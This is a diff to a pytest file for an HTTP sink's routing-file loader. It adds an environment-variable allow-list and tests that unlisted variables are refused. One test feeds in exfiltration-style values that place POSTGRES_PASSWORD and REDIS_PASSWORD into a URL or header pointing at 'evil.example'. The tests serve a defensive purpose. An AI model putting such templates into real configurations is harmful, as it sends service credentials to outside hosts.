@@ -4,12 +4,14 @@ from pathlib import Path
 
 import pytest
 
-from infra.settings import REPO_ROOT
+from infra.settings import REPO_ROOT, HttpSinkSettings
 from sinks.http_routes import Match, Route, RoutesError, Threshold, load
 
 from .http_fakes import enriched, row
 
 EXAMPLE = REPO_ROOT / "infra" / "http" / "routes.example.yaml"
+# HTTP_SINK_ROUTES_ENV_ALLOW's default: what the example file reads besides HTTP_SINK_ROUTE_*.
+ALLOWED = HttpSinkSettings().routes_env_names
 
 
 def write(tmp_path: Path, text: str) -> Path:
@@ -19,7 +21,7 @@ def write(tmp_path: Path, text: str) -> Path:
 
 
 def test_the_example_file_loads_with_its_defaults():
-    routes = load(EXAMPLE, environ={})
+    routes = load(EXAMPLE, environ={}, allowed=ALLOWED)
     assert [(r.endpoint, r.url, len(r.rules)) for r in routes] == [
         ("analytics", "http://127.0.0.1:58088/ingest/analytics", 1),
         ("completions", "http://127.0.0.1:58088/ingest/completions", 2),
@@ -28,9 +30,47 @@ def test_the_example_file_loads_with_its_defaults():
 
 
 def test_variables_come_from_the_environment():
-    routes = load(EXAMPLE, environ={"HTTP_RECEIVER_URL": "https://hooks.example", "COMPLETIONS_TOKEN": "t0k"})
+    environ = {"HTTP_RECEIVER_URL": "https://hooks.example", "HTTP_SINK_ROUTE_COMPLETIONS_TOKEN": "t0k"}
+    routes = load(EXAMPLE, environ=environ, allowed=ALLOWED)
     assert routes[0].url == "https://hooks.example/ingest/analytics"
     assert routes[1].headers["Authorization"] == "Bearer t0k"
+
+
+def test_the_allow_list_defaults_to_the_local_receivers_url():
+    assert HttpSinkSettings().routes_env_names == {"HTTP_RECEIVER_URL"}
+    assert HttpSinkSettings(routes_env_allow=" A_URL, B_TOKEN ,").routes_env_names == {"A_URL", "B_TOKEN"}
+
+
+@pytest.mark.parametrize(
+    ("value", "where"),
+    [
+        ("url: 'https://evil.example/?p=${POSTGRES_PASSWORD}'", "url"),
+        ("url: 'https://h/a', headers: {X-Leak: '${REDIS_PASSWORD:-x}'}", "headers.X-Leak"),
+        ("url: '${HOME:-https://h}/a'", "url"),
+    ],
+)
+def test_a_variable_outside_the_prefix_and_the_allow_list_is_refused_by_name(tmp_path, value, where):
+    path = write(tmp_path, f"endpoints:\n  a: {{{value}}}\nroutes:\n  - {{name: r, endpoint: a}}\n")
+    environ = {"POSTGRES_PASSWORD": "pg-secret", "REDIS_PASSWORD": "redis-secret", "HOME": "/root"}
+    name = value.split("${")[1].split("}")[0].split(":-")[0]
+    with pytest.raises(RoutesError) as raised:
+        load(path, environ=environ, allowed=ALLOWED)
+    assert str(raised.value) == (
+        f"routing file {path}: endpoint 'a': {where}: ${{{name}}} may not be read: "
+        "name it HTTP_SINK_ROUTE_... or add it to HTTP_SINK_ROUTES_ENV_ALLOW"
+    )
+
+
+def test_the_prefix_and_the_allow_list_are_read(tmp_path):
+    text = (
+        "endpoints:\n  a: {url: '${HOOK_BASE}/a', headers: {Authorization: 'Bearer ${HTTP_SINK_ROUTE_A_TOKEN}'}}\n"
+        "routes:\n  - {name: r, endpoint: a}\n"
+    )
+    environ = {"HOOK_BASE": "https://hooks.example", "HTTP_SINK_ROUTE_A_TOKEN": "t"}
+    [route] = load(write(tmp_path, text), environ=environ, allowed={"HOOK_BASE"})
+    assert (route.url, route.headers) == ("https://hooks.example/a", {"Authorization": "Bearer t"})
+    with pytest.raises(RoutesError, match=r"\$\{HOOK_BASE\} may not be read"):
+        load(write(tmp_path, text), environ=environ)
 
 
 BASE = """
@@ -89,8 +129,8 @@ def test_errors_name_the_rule_and_the_field(tmp_path, rules, message):
             "endpoint 'b': no rule sends it anything",
         ),
         (
-            "endpoints:\n  a: {url: '${HOOK_URL}/a'}\nroutes:\n  - {name: r, endpoint: a}\n",
-            "endpoint 'a': url: ${HOOK_URL} is not set",
+            "endpoints:\n  a: {url: '${HTTP_SINK_ROUTE_HOOK_URL}/a'}\nroutes:\n  - {name: r, endpoint: a}\n",
+            "endpoint 'a': url: ${HTTP_SINK_ROUTE_HOOK_URL} is not set",
         ),
         ("endpoints: [", "not valid YAML"),
     ],
